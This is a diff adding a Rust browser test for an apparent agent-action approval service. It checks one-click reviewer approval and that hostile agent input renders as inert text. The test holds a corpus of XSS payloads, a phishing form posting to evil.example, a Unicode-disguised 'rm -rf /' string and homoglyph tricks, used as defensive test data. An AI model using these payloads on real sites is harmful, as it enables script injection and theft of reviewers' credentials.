@@ -1,0 +1,244 @@
+//! The review page in a real browser (headless Chromium): a reviewer opens a printed link and
+//! approves in one click; hostile agent input shows up as text and runs nothing.
+
+mod support;
+
+use std::path::Path;
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+use support::webdriver::Browser;
+use support::{Server, free_port};
+
+const AGENT: &str = "agent-key-0000000000";
+const ALICE: &str = "alice-key-0000000000";
+
+fn keys() -> String {
+    json!({
+        AGENT: {"tenant": "t", "principal": "agent"},
+        ALICE: {"tenant": "t", "principal": "alice"},
+    })
+    .to_string()
+}
+
+async fn create(server: &Server, body: &Value) -> String {
+    let (status, a) = server
+        .call("POST", "/v1/approvals", Some(AGENT), Some(body))
+        .await
+        .unwrap();
+    assert_eq!(status, 201, "{a}");
+    assert!(
+        !a.to_string().contains("token="),
+        "no answer to the agent carries a link"
+    );
+    a["id"].as_str().unwrap().to_owned()
+}
+
+/// `holdpoint links ID`, beside the running server: alice's link.
+fn alice_link(cwd: &Path, server: &Server, id: &str) -> String {
+    let out = Command::new(env!("CARGO_BIN_EXE_holdpoint"))
+        .args(["links", id])
+        .env("HOLDPOINT_ADDR", server.addr.to_string())
+        .current_dir(cwd)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        out.status.success(),
+        "{stdout}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("alice "))
+        .unwrap_or_else(|| panic!("no link for alice in {stdout}"))
+        .to_owned()
+}
+
+async fn wait_for_text(browser: &Browser, needle: &str) -> String {
+    let started = Instant::now();
+    loop {
+        let text = browser.text().await;
+        if text.contains(needle) || started.elapsed() > Duration::from_secs(10) {
+            return text;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_reviewer_approves_from_a_link_in_one_click() {
+    let dir = tempfile::tempdir().unwrap();
+    let keys = keys();
+    let server = Server::start(
+        dir.path(),
+        &[("HOLDPOINT_API_KEYS", keys.as_str())],
+        free_port(),
+    )
+    .await;
+    let id = create(&server, &json!({
+        "action": "Terminate EC2 instance i-0abc123 in eu-west-1",
+        "agent_id": "ops-agent",
+        "reviewers": ["alice"],
+        "reason": "Idle for 30 days; last login 2026-10-02",
+        "risk_score": 80,
+        "context": {"instance_id": "i-0abc123", "region": "eu-west-1", "monthly_cost_eur": 412.5},
+        "tool_call": {"name": "ec2.terminate_instances", "arguments": {"InstanceIds": ["i-0abc123"]}},
+    }))
+    .await;
+    let link = alice_link(dir.path(), &server, &id);
+
+    let browser = Browser::start().await;
+    browser.goto(&link).await;
+    let text = browser.text().await;
+    assert!(
+        text.contains("Terminate EC2 instance i-0abc123 in eu-west-1"),
+        "{text}"
+    );
+    assert!(
+        text.contains("ec2.terminate_instances") && text.contains("monthly_cost_eur"),
+        "{text}"
+    );
+    let width = browser
+        .execute("return [window.innerWidth, document.documentElement.scrollWidth]")
+        .await;
+    assert_eq!(
+        width,
+        json!([390, 390]),
+        "fits a phone screen without sideways scrolling"
+    );
+    if let Ok(path) = std::env::var("HOLDPOINT_SCREENSHOT") {
+        std::fs::write(path, browser.screenshot().await).unwrap();
+    }
+    let (status, before) = server
+        .call("GET", &format!("/v1/approvals/{id}"), Some(AGENT), None)
+        .await
+        .unwrap();
+    assert_eq!(
+        (status, before["status"].as_str()),
+        (200, Some("pending")),
+        "opening the page decided nothing"
+    );
+
+    browser.click("#approve").await;
+    let text = wait_for_text(&browser, "Decision recorded").await;
+    assert!(text.contains("now approved"), "{text}");
+    let (_, after) = server
+        .call("GET", &format!("/v1/approvals/{id}"), Some(AGENT), None)
+        .await
+        .unwrap();
+    assert_eq!(after["status"], "approved");
+    assert_eq!(after["decision"]["by"], "alice");
+
+    browser.goto(&link).await;
+    let text = browser.text().await;
+    assert!(
+        text.contains("Already decided: approved by alice"),
+        "{text}"
+    );
+    browser.quit();
+}
+
+/// Markup, script, URL, CSS and Unicode tricks an agent (or whoever steers it) might send.
+fn hostile() -> Vec<String> {
+    [
+        "<script>window.__pwned=1</script>",
+        "<img src=x onerror=\"window.__pwned=1\">",
+        "<IMG SRC=JaVaScRiPt:window.__pwned=1>",
+        "<svg onload=\"window.__pwned=1\">",
+        "<svg><script>window.__pwned=1</script></svg>",
+        "\"><script>window.__pwned=1</script>",
+        "'><img src=x onerror=window.__pwned=1>",
+        "</bdi><img src=x onerror=window.__pwned=1>",
+        "</pre><script>window.__pwned=1</script>",
+        "</textarea><script>window.__pwned=1</script>",
+        "</title><script>window.__pwned=1</script>",
+        "</style><script>window.__pwned=1</script>",
+        "<a href=\"javascript:window.__pwned=1\">click me</a>",
+        "javascript:window.__pwned=1",
+        "data:text/html,<script>window.__pwned=1</script>",
+        "<iframe src=\"javascript:parent.__pwned=1\"></iframe>",
+        "<object data=\"javascript:window.__pwned=1\"></object>",
+        "<embed src=\"javascript:window.__pwned=1\">",
+        "<body onload=window.__pwned=1>",
+        "<details open ontoggle=window.__pwned=1>",
+        "<input autofocus onfocus=window.__pwned=1>",
+        "<video><source onerror=\"window.__pwned=1\"></video>",
+        "<marquee onstart=window.__pwned=1>x</marquee>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
+        "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
+        "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned=1\">",
+        "<base href=\"javascript:/\">",
+        "<link rel=stylesheet href=\"//evil.example/x.css\">",
+        "<style>body{display:none}</style>",
+        "<div style=\"position:fixed;inset:0;background:red\">fake approve</div>",
+        "<form action=\"https://evil.example/steal\"><button>Approve</button></form>",
+        "{{constructor.constructor('window.__pwned=1')()}}",
+        "${window.__pwned=1}",
+        "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
+        "\u{202E}fdp.exe rm -rf /",
+        "pay\u{200D}ment to \u{0430}pprove\u{FEFF} now",
+        "\u{2066}hidden\u{2069} direction \u{061C}marks",
+    ]
+    .map(String::from)
+    .to_vec()
+}
+
+const NOTHING_RAN: &str = r#"
+    const forms = Array.from(document.forms);
+    return {
+        pwned: window.__pwned !== undefined,
+        hidden: getComputedStyle(document.body).display === 'none',
+        injected: document.querySelectorAll('script,img,svg,iframe,object,embed,video,marquee,details,math,link,base,noscript,a,meta[http-equiv],style:not(head style),div,input:not([type=hidden])').length,
+        forms: forms.length,
+        foreign_forms: forms.filter(f => f.getAttribute('action') !== location.pathname).length,
+    };
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_input_shows_as_text_and_runs_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let keys = keys();
+    let server = Server::start(
+        dir.path(),
+        &[("HOLDPOINT_API_KEYS", keys.as_str())],
+        free_port(),
+    )
+    .await;
+    let browser = Browser::start().await;
+    let corpus = hostile();
+    assert!(corpus.len() >= 30);
+    for payload in &corpus {
+        let id = create(
+            &server,
+            &json!({
+                "action": payload,
+                "agent_id": payload,
+                "reason": payload,
+                "reviewers": ["alice"],
+                "context": {"note": payload, payload.as_str(): "key"},
+                "tool_call": {"name": payload, "arguments": {"sql": payload}},
+            }),
+        )
+        .await;
+        browser.goto(&alice_link(dir.path(), &server, &id)).await;
+        let checks = browser.execute(NOTHING_RAN).await;
+        assert_eq!(
+            checks,
+            json!({"pwned": false, "hidden": false, "injected": 0, "forms": 3, "foreign_forms": 0}),
+            "payload {payload:?}"
+        );
+        assert!(
+            !browser.dialog_open().await,
+            "payload {payload:?} opened a dialog"
+        );
+        let text = browser.text().await;
+        assert!(
+            text.contains(payload.as_str()),
+            "payload {payload:?} is not shown as text:\n{text}"
+        );
+    }
+    browser.quit();
+}
